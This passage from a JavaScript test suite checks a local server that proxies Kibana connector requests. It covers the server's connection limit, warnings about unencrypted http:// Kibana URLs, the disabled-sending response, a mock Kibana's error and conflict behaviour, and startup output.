  const limited = await startServer({ port: 0, maxConnections: 3, headersTimeoutMs: 1500, requestTimeoutMs: 1500 });
  try {
    const host = `Host: ${new URL(limited.url).host}\r\n`;
    const held = [1, 2, 3].map(() => slowClient(limited.url, `GET / HTTP/1.1\r\n${host}`, { giveUp: 6000 }));
    await new Promise((resolve) => setTimeout(resolve, 200));
    const extra = await slowClient(limited.url, `GET / HTTP/1.1\r\n${host}\r\n`, { giveUp: 1000 });
    assert.ok(extra.ms < 1000, `the 4th connection: closed after ${extra.ms} ms`);
    assert.equal(extra.data, '', 'it gets no answer');
    // Once the held ones time out, the server answers again.
    for (const { ms } of await Promise.all(held)) assert.ok(ms < 6000);
    assert.equal((await fetch(limited.url)).status, 200);
  } finally {
    limited.server.close();
  }
});

test('a warning at start when KIBANA_URL is plain http:// to another machine', () => {
  for (const url of ['http://kibana.example:5601', 'http://10.0.0.5', 'http://[2001:db8::1]:5601', 'http://localhost.example']) {
    assert.match(plainHttpWarning(url), /^Warning: KIBANA_URL is plain http:\/\/ to .*unencrypted\. Use https:\/\/\.$/, url);
  }
  for (const url of [null, 'https://kibana.example', 'http://127.0.0.1:5601', 'http://127.1.2.3', 'http://localhost:5601', 'http://kibana.localhost', 'http://[::1]:5601', 'http://[::ffff:127.0.0.1]']) {
    assert.equal(plainHttpWarning(url && parseKibanaUrl(url)), null, url);
  }
});

test('without KIBANA_URL, sending is off and the answer says how to turn it on', async () => {
  const response = await post(plain, '/api/actions/connector');
  assert.equal(response.status, 503);
  assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'off');
  assert.match((await response.json()).message, /KIBANA_URL=/);
});

test('the test Kibana keeps Kibana\'s contract: 401, then kbn-xsrf, then the body, then 409', async () => {
  const direct = (path, { headers = {}, body = BODY } = {}) => fetch(`${kibana.url}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : json(body),
  });
  const auth = { authorization: `ApiKey ${kibana.apiKey}` };
  assert.equal((await direct('/api/actions/connector', { headers: { 'kbn-xsrf': 'x' } })).status, 401);
  const basic = { authorization: `Basic ${Buffer.from(`${kibana.user}:${kibana.password}`).toString('base64')}` };
  const noXsrf = await direct('/api/actions/connector', { headers: basic });
  assert.equal(noXsrf.status, 400);
  assert.deepEqual(await noXsrf.json(), { statusCode: 400, error: 'Bad Request', message: 'Request must contain a kbn-xsrf header.' });
  const invalid = await direct('/api/actions/connector', { headers: { ...auth, 'kbn-xsrf': 'x' }, body: { ...BODY, config: {} } });
  assert.equal(invalid.status, 400);
  assert.equal((await invalid.json()).message, pkg.validate({ ...BODY, config: {} }).kibanaError.message);
  const first = await direct('/s/a/api/actions/connector/same-id', { headers: { ...auth, 'kbn-xsrf': 'x' } });
  assert.equal(first.status, 200);
  assert.deepEqual(Object.keys(await first.json()), ['id', 'name', 'config', 'connector_type_id', 'is_preconfigured', 'is_deprecated', 'is_missing_secrets', 'is_system_action', 'is_connector_type_deprecated']);
  const again = await direct('/s/a/api/actions/connector/same-id', { headers: { ...auth, 'kbn-xsrf': 'x' } });
  assert.equal(again.status, 409);
  assert.equal((await again.json()).message, 'Saved object [action/same-id] conflict');
  const otherSpace = await direct('/s/b/api/actions/connector/same-id', { headers: { ...auth, 'kbn-xsrf': 'x' } });
  assert.equal(otherSpace.status, 200, 'ids are per space');
});

test('`node www/server.mjs` (what `make serve` runs) prints its URL and serves the page', async () => {
  const run = async (env, expected) => {
    const child = spawn(process.execPath, [new URL('../server.mjs', import.meta.url).pathname], {
      env: { ...process.env, PORT: '0', KIBANA_URL: '', ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let errors = '';
    child.stderr.on('data', (chunk) => { errors += chunk; });
    try {
      const { url, out } = await new Promise((resolve, reject) => {
        let text = '';
        child.stdout.on('data', (chunk) => {
          text += chunk;
          const match = text.match(/http:\/\/127\.0\.0\.1:\d+\//);
          if (match && text.includes('\n', text.indexOf(match[0])) && expected.test(text)) resolve({ url: match[0], out: text });
        });
        child.once('exit', (code) => reject(new Error(`server exited with ${code}: ${text}`)));
      });
      const response = await fetch(url);
      assert.equal(response.status, 200);
      assert.match(out, expected);
      return { config: await (await fetch(new URL('/config.json', url))).json(), errors };
    } finally {
      child.kill();
    }
  };
  const off = await run({}, /Sending is off: set KIBANA_URL/);
  assert.equal(off.config.kibana, null);
  assert.equal(off.errors, '');
  const local = await run({ KIBANA_URL: kibana.url }, /Sending through this server to http:\/\/127\.0\.0\.1:\d+\/kbn/);
  assert.equal(local.config.kibana.route, 'proxy');
  assert.equal(local.errors, '', 'plain http:// to this machine: no warning');
  const remote = await run({ KIBANA_URL: 'http://kibana.invalid:5601' }, /Sending through this server to http:\/\/kibana\.invalid:5601/);
  assert.match(remote.errors, /^Warning: KIBANA_URL is plain http:\/\/ to kibana\.invalid: .*unencrypted/);
});
